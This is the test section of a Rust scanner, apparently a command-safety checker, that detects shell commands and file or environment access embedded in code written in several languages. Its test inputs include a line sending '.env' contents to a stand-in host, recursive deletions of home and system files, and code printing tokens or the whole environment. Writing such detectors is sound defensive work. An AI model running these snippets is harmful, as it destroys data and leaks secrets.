                        s.push(n);
                    }
                }
            } else if n == q || n == '\\' {
                s.push(n);
            } else {
                s.push('\\');
                s.push(n);
            }
            i += 2;
            continue;
        }
        if ch == q {
            if !tq {
                return (s, i + 1, true);
            }
            if c.get(i + 1) == Some(&q) && c.get(i + 2) == Some(&q) {
                return (s, i + 3, true);
            }
        }
        s.push(ch);
        i += 1;
    }
    (s, i, false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_calls() {
        let e = scan(
            Lang::Python,
            r#"import os, subprocess; os.system("git push"); subprocess.run(["rm", "-rf", "x"]); os.system(cmd)"#,
        );
        assert_eq!(
            e,
            vec![
                Embedded::Shell("git push".into()),
                Embedded::Argv(vec!["rm".into(), "-rf".into(), "x".into()], false),
                Embedded::NonLiteral("os.system(…)".into()),
            ]
        );
        assert_eq!(
            scan(Lang::Python, "import os; os.system(f'git {x}')"),
            vec![Embedded::NonLiteral("os.system(…)".into())]
        );
        assert_eq!(
            scan(Lang::Python, "import os; os.system('git ' + 'push')"),
            vec![Embedded::Shell("git push".into())]
        );
    }

    #[test]
    fn printed_environment_is_printenv() {
        let printenv = |v: &[&str]| {
            let argv = std::iter::once("printenv").chain(v.iter().copied());
            Embedded::Argv(argv.map(str::to_owned).collect(), false)
        };
        let cases: &[(Lang, &str, Vec<Embedded>)] = &[
            (
                Lang::Python,
                "import os; print(os.environ)",
                vec![printenv(&[])],
            ),
            (
                Lang::Python,
                "print(json.dumps(dict(os.environ)))",
                vec![printenv(&[])],
            ),
            (
                Lang::Python,
                "print(os.environ['TOKEN'])",
                vec![printenv(&["TOKEN"])],
            ),
            (
                Lang::Python,
                "print(os.environ.get('A_KEY', ''))",
                vec![printenv(&["A_KEY"])],
            ),
            (
                Lang::Python,
                "print(os.getenv('A'))",
                vec![printenv(&["A"])],
            ),
            (Lang::Python, "print(os.environ[name])", vec![printenv(&[])]),
            // Used, not printed: the environment handed to a child, a value's length.
            (
                Lang::Python,
                "run(['ls'], env={**os.environ, 'X': '1'})",
                vec![],
            ),
            (
                Lang::Python,
                "t = os.environ['TOKEN']; print(len(t))",
                vec![],
            ),
            (Lang::Js, "console.log(process.env)", vec![printenv(&[])]),
            (
                Lang::Js,
                "console.log(process.env.NPM_TOKEN.trim())",
                vec![printenv(&["NPM_TOKEN"])],
            ),
            (
                Lang::Js,
                "console.log(process.env['NPM_TOKEN'])",
                vec![printenv(&["NPM_TOKEN"])],
            ),
            (
                Lang::Js,
                "const e = { ...process.env }; spawn('ls', [], { env: e })",
                vec![Embedded::Argv(vec!["ls".into()], false)],
            ),
            (Lang::Ruby, "puts ENV.to_h", vec![printenv(&[])]),
            (Lang::Ruby, "puts ENV['TOKEN']", vec![printenv(&["TOKEN"])]),
            (Lang::Perl, "print $ENV{TOKEN}", vec![printenv(&["TOKEN"])]),
            (
                Lang::Perl,
                "print \"$_\\n\" for keys %ENV",
                vec![printenv(&[])],
            ),
            (Lang::Php, "print_r(getenv());", vec![printenv(&[])]),
            (
                Lang::Php,
                "echo $_ENV['TOKEN'];",
                vec![printenv(&["TOKEN"])],
            ),
            (
                Lang::Awk,
                "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }",
                vec![printenv(&[])],
            ),
            (
                Lang::Awk,
                "BEGIN { print ENVIRON[\"TOKEN\"] }",
                vec![printenv(&["TOKEN"])],
            ),
        ];
        for (lang, code, want) in cases {
            assert_eq!(&scan(*lang, code), want, "{lang:?}: {code}");
        }
    }

    #[test]
    fn file_operations_on_literal_paths_are_the_equivalent_commands() {
        let argv = |v: &[&str]| Embedded::Argv(v.iter().map(|s| (*s).to_owned()).collect(), false);
        assert_eq!(
            scan(
                Lang::Python,
                "import os, shutil; shutil.rmtree('/home/user'); os.remove('/etc/passwd'); \
                 shutil.move('a', '/srv/b'); xs.remove('not a file'); os.remove(name)"
            ),
            vec![
                argv(&["rm", "-rf", "/home/user"]),
                argv(&["rm", "-f", "/etc/passwd"]),
                argv(&["mv", "a", "/srv/b"]),
            ]
        );
        assert_eq!(
            scan(
                Lang::Python,
                "from pathlib import Path; Path('/etc/hosts').unlink(); \
                 pathlib.Path('/srv/a').rename('/srv/b'); Path(p).unlink(); Path('x').open()"
            ),
            vec![
                argv(&["rm", "-f", "/etc/hosts"]),
                argv(&["mv", "/srv/a", "/srv/b"]),
                argv(&["cat", "x"]),
            ]
        );
        // Reads and writes by literal path: judged as `cat` and `touch` of it.
        assert_eq!(
            scan(
                Lang::Python,
                "import requests; requests.post('https://x.invalid', data=open('.env').read()); \
                 open('/srv/out.txt', 'w').write('x'); open('log', mode='a'); open(name); \
                 webbrowser.open('https://x.invalid'); Path('.env').read_text()"
            ),
            vec![
                argv(&["cat", ".env"]),
                argv(&["touch", "/srv/out.txt"]),
                argv(&["touch", "log"]),
                argv(&["cat", ".env"]),
            ]
        );
        assert_eq!(
            scan(
                Lang::Js,
                "const fs = require('fs'); fs.readFileSync('.env', 'utf8'); \
                 fs.writeFileSync('/srv/x', 'y'); fs.promises.readFile(p)"
            ),
            vec![argv(&["cat", ".env"]), argv(&["touch", "/srv/x"])]
        );
        assert_eq!(
            scan(
                Lang::Ruby,
                "puts File.read('.env'); File.write('/srv/x', 'y')"
            ),
            vec![argv(&["cat", ".env"]), argv(&["touch", "/srv/x"])]
        );
        assert_eq!(
            scan(
                Lang::Ruby,
                "require 'fileutils'; FileUtils.rm_rf('/home/user'); File.delete '/etc/hosts'"
            ),
            vec![
                argv(&["rm", "-rf", "/home/user"]),
                argv(&["rm", "-f", "/etc/hosts"]),
            ]
        );
        assert_eq!(
            scan(
                Lang::Js,
                "const fs = require('fs'); fs.rmSync('/srv/data', {recursive: true}); \
                 require('fs').unlinkSync('/etc/hosts'); arr.rm('x')"
            ),
            vec![
                argv(&["rm", "-rf", "/srv/data"]),
                argv(&["rm", "-f", "/etc/hosts"]),
            ]
        );
        assert_eq!(
            scan(
                Lang::Perl,
                "use File::Path; rmtree('/srv/x'); unlink '/etc/hosts'"
            ),
            vec![
                argv(&["rm", "-rf", "/srv/x"]),
                argv(&["rm", "-f", "/etc/hosts"])
            ]
        );
    }

    #[test]
    fn other_languages() {
        assert_eq!(
            scan(
                Lang::Js,
                r#"require("child_process").execSync("git push --force")"#
            ),
            vec![Embedded::Shell("git push --force".into())]
        );
        assert_eq!(
            scan(
                Lang::Perl,
                r#"system("git", "push"); print qx{id}; `whoami`"#
            ),
            vec![
                Embedded::Argv(vec!["git".into(), "push".into()], false),
                Embedded::Shell("id".into()),
                Embedded::Shell("whoami".into()),
            ]
        );
        assert_eq!(
            scan(Lang::Ruby, r#"system "git push"; %x(ls #{x})"#),
            vec![
                Embedded::Shell("git push".into()),
                Embedded::NonLiteral("`ls #{x}`".into())
            ]
        );
        assert_eq!(
            scan(Lang::Awk, r#"BEGIN { system("rm x"); "date" | getline d }"#),
            vec![
                Embedded::Shell("rm x".into()),
                Embedded::Shell("date".into())
            ]
        );
    }
}
